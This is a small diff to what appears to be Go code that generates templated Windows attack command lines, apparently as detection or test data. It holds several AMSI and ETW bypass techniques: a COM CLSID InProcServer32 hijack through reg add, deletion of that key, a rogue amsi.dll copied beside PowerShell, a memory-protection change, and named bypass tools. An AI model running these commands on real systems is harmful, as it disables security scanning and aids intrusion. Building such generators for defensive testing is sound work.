@@ -284,7 +284,7 @@ $vp.Invoke($p, {{implen}}, 0x40, [ref]$old)
 			`AmsiScanBufferBypass.exe {{pid}}`,
 			`Invoke-NullAMSI{{| -v| -etw}}`),
 		weighted(pairedWeight, fam("impair/amsi-com-dll-hijack", c, "windows", Cmd,
-			`{{reg}} add "HKCU\Software\Classes\CLSID\{fdb00e52-a214-4aa1-8fba-4357bb0072ec}\InProcServer32" /ve /t REG_SZ /d "{{C:\IDontExist.dll|{{wtemp}}\{{word}}.dll}}" /f`,
+			`{{reg}} add "HKCU\Software\Classes\CLSID\{fdb00e52-a214-4aa1-8fba-4357bb0072ec}\InProcServer32" /ve /t REG_SZ /d "{{wtemp}}\{{word}}.dll" /f`,
 			`{{reg}} delete "HKLM\SOFTWARE\Classes\CLSID\{fdb00e52-a214-4aa1-8fba-4357bb0072ec}\InProcServer32" /f`,
 			`copy /y {{wtemp}}\amsi.dll "%windir%\System32\WindowsPowerShell\v1.0\amsi.dll"`,
 			`copy {{wtemp}}\amsi.dll {{wtemp}}\{{word}}\amsi.dll {{amp}} copy %windir%\System32\WindowsPowerShell\v1.0\powershell.exe {{wtemp}}\{{word}}\`,
